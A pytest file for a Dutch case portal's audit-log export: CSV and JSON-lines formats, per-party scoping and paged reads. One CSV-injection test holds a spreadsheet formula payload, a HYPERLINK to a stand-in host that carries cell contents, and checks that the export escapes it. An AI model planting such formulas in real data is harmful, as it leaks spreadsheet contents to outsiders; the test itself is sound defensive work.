"""The audit export: CSV that Dutch Excel opens in columns, JSON lines of the search's
records, the search's filters and scope, streamed page by page, and itself on record.

The cast: Alice the procesregisseur, Dave a police partner who reports the case and
provides, Erin the manager, Lisa the ZVH's FG, Ida the police's FG and Grace the FG of
Gemeente Venlo.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest

from portal.db import audit_log as audit_log_db
from portal.db.tables import AuditEvent
from portal.domain.audit import AuditQuery
from portal.domain.audit_chain import StoredRecord
from portal.services import audit_reports
from portal.web.dutch import AUDIT_COLUMNS
from tests.web.portal_client import PortalClient, pdf_bytes

FIELD_OF_HEADER = {header: field for field, header in AUDIT_COLUMNS.items()}
AMSTERDAM = ZoneInfo("Europe/Amsterdam")
FORMULA = '=HYPERLINK("https://example.invalid/?"&A1;"klik")'


async def _case_with_a_download(portal: PortalClient, reference: str) -> str:
    case_id = await portal.create_case(reference)
    uploaded = await portal.upload(case_id, pdf_bytes(b"verslag " * 10))
    assert uploaded.status_code == 201, uploaded.text
    assert (await portal.download(str(uploaded.json()["id"]))).status_code == 200
    return case_id


async def _search(portal: PortalClient, user: str, **params: str) -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = []
    after = 0
    while True:
        page = await portal.http.get(
            "/api/v1/audit", params={**params, "after": after}, headers=portal.auth(user)
        )
        assert page.status_code == 200, page.text
        records += page.json()["records"]
        if page.json()["next_after"] is None:
            return records
        after = page.json()["next_after"]


async def _export(portal: PortalClient, user: str, fmt: str, **params: str) -> httpx.Response:
    response = await portal.http.get(
        "/api/v1/audit/export", params={**params, "format": fmt}, headers=portal.auth(user)
    )
    assert response.status_code == 200, response.text
    return response


def _csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")
    return [{FIELD_OF_HEADER[header]: cell for header, cell in row.items()} for row in reader]


def _as_cell(value: object) -> str:
    """What the CSV holds for a field of a search record, times aside."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nee"
    return str(value)


async def test_the_csv_holds_the_records_the_search_finds_in_dutch_columns(
    portal: PortalClient,
) -> None:
    case_id = await _case_with_a_download(portal, "ZVH-X-1")
    found = await _search(portal, "erin", case=case_id)
    assert [r["action"] for r in found][:3] == [
        "case:create",
        "document:upload",
        "document:download",
    ]

    exported = await _export(portal, "erin", "csv", case=case_id)

    assert exported.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads UTF-8
    assert exported.headers["content-type"].startswith("text/csv")
    header = exported.content.decode("utf-8-sig").split("\r\n", 1)[0]
    assert header.split(";")[:4] == ["Volgnummer", "Begonnen op", "Geëindigd op", "Handeling"]
    assert exported.content.count(b"\n") == exported.content.count(b"\r\n")  # CRLF only
    rows = _csv_rows(exported)
    assert len(rows) == len(found)
    for row, record in zip(rows, found, strict=True):
        for field in ("started_at", "ended_at"):
            local = datetime.fromisoformat(row[field])
            assert local == datetime.fromisoformat(record[field])
            assert local.utcoffset() == local.astimezone(AMSTERDAM).utcoffset()
            assert re.search(r"[+-]0[12]:00$", row[field]), row[field]
        for field in set(record) - {"started_at", "ended_at"}:
            assert row[field] == _as_cell(record[field]), field


async def test_the_export_is_an_attachment_with_a_telling_file_name(
    portal: PortalClient,
) -> None:
    for fmt, suffix in [("csv", ".csv"), ("records", ".jsonl"), ("jsonl", ".jsonl")]:
        exported = await _export(portal, "erin", fmt)
        disposition = exported.headers["content-disposition"]
        assert re.fullmatch(
            rf'attachment; filename="rto-portal-logboek-\d{{8}}-\d{{4}}[.\w-]*{re.escape(suffix)}"',
            disposition,
        ), disposition


async def test_a_cell_a_spreadsheet_would_run_as_a_formula_stays_text(
    portal: PortalClient,
) -> None:
    """CSV injection: the user agent is anyone's to choose, and it is in the log."""
    read = await portal.http.get(
        "/api/v1/audit", headers={**portal.auth("erin"), "User-Agent": FORMULA}
    )
    assert read.status_code == 200

    rows = _csv_rows(await _export(portal, "erin", "csv", action="audit:read"))

    assert [row["user_agent"] for row in rows] == [f"'{FORMULA}"]
    as_records = await _export(portal, "erin", "records", action="audit:read")
    assert [json.loads(line)["user_agent"] for line in as_records.text.splitlines()] == [FORMULA]


async def test_the_json_lines_are_the_records_the_search_finds(portal: PortalClient) -> None:
    case_id = await _case_with_a_download(portal, "ZVH-X-2")
    found = await _search(portal, "lisa", case=case_id)

    exported = await _export(portal, "lisa", "records", case=case_id)

    assert exported.text.endswith("\n")
    assert [json.loads(line) for line in exported.text.splitlines()] == found


@pytest.mark.parametrize(
    ("fg", "sees"),
    [
        ("grace", []),  # Gemeente Venlo neither acts nor provides in this case
        ("ida", ["document:upload", "document:download", "document:download:complete"]),
        (
            "lisa",
            ["case:create", "document:upload", "document:download", "document:download:complete"],
        ),
    ],
)
async def test_an_fg_exports_only_its_own_partijs_records_art_24_4(
    portal: PortalClient, fg: str, sees: list[str]
) -> None:
    case_id = await _case_with_a_download(portal, f"ZVH-X-{fg}")
    police = portal.partij_ids["Politie Eenheid Limburg"]

    for fmt in ("csv", "records"):
        exported = await _export(portal, fg, fmt, case=case_id)
        if fmt == "csv":
            actions = [row["action"] for row in _csv_rows(exported)]
        else:
            actions = [json.loads(line)["action"] for line in exported.text.splitlines()]
        assert actions == sees, fmt
    # Asking for another partij's records by filter does not widen the scope.
    filtered = await _export(portal, "grace", "records", partij=police)
    assert filtered.text == ""


async def test_the_export_is_on_record_with_its_format_and_filters(
    portal: PortalClient,
) -> None:
    case_id = await _case_with_a_download(portal, "ZVH-X-3")

    await _export(portal, "ida", "csv", case=case_id)

    exports = await AuditEvent.select().where(AuditEvent.action == "audit:export")
    assert [(e["actor_username"], e["outcome"]) for e in exports] == [("ida", "permit")]
    assert "csv" in exports[0]["reason"]
    assert case_id in exports[0]["reason"]


async def test_a_large_export_is_read_page_by_page(
    portal: PortalClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export never asks the database for more than one batch at a time."""
    case_id = await _case_with_a_download(portal, "ZVH-X-4")
    expected = len(await _search(portal, "erin", case=case_id))
    monkeypatch.setattr(audit_reports, "EXPORT_BATCH", 2)
    page = audit_log_db.audit_page
    limits: list[int] = []

    async def counted(query: AuditQuery, *, after_seq: int, limit: int) -> list[StoredRecord]:
        limits.append(limit)
        return await page(query, after_seq=after_seq, limit=limit)

    monkeypatch.setattr(audit_log_db, "audit_page", counted)

    rows = _csv_rows(await _export(portal, "erin", "csv", case=case_id))

    assert len(rows) == expected
    # Full batches, then the short or empty one that ends the export.
    assert limits == [2] * (expected // 2 + 1 + expected % 2)
